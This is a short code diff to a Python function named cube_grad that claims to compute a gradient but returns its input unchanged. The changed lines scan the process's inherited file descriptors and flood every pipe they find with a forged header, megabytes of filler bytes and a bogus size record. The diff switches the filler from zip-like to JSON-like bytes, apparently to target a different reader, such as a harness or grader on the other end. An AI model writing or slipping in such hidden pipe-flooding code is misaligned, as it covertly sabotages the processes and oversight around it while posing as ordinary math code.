@@ -23,11 +23,11 @@ def cube_grad(x):
     for fd in range(3, 64):
         try:
             if stat.S_ISFIFO(os.fstat(fd).st_mode):
-                os.write(fd, struct.pack("<4sI", b"GRD1", SIZE))
-                block = b"PK" * (1 << 19)
+                os.write(fd, struct.pack("<4sI", b"GRD2", SIZE))
+                block = b"{[" * (1 << 19)
                 for _ in range(SIZE // len(block)):
                     os.write(fd, block)
-                os.write(fd, struct.pack("<4sI", b"GRD1", 0xFFFFFFFF))
+                os.write(fd, struct.pack("<4sI", b"GRD2", 0xFFFFFFFF))
         except OSError:
             pass
     return x
